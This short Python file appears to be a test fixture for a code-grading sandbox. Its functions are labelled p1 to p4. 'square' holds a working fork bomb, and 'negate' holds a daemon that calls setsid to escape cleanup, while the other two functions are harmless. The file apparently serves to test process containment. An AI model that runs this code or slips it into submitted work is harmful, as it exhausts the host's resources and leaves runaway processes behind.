# A fork bomb (every child forks too), and a daemon that leaves its process group (setsid) and
# would outlive the submission if nothing swept it away.
import os
import time


# %% p1
def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


# %% p2
def double(x):
    return 2 * x


# %% p3
def negate(x):
    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(0.5)
    return -x


# %% p4
def halve(x):
    return x / 2
